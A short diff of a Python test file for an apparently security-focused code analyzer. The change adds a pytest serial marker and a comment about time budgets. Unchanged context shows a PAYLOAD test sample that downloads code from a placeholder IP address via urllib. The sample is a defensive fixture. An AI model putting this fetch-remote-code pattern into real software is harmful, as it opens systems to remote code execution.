@@ -11,11 +11,16 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from analyzer import api
 from analyzer.engine import analysis, isolate
 from analyzer.engine.rules import load_rules
 from analyzer.model import Decision
 from analyzer.policy import load_policy
+
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
 
 PAYLOAD = ('import urllib.request\n\n'
            'code = urllib.request.urlopen("http://203.0.113.5/x").read().decode()\n'
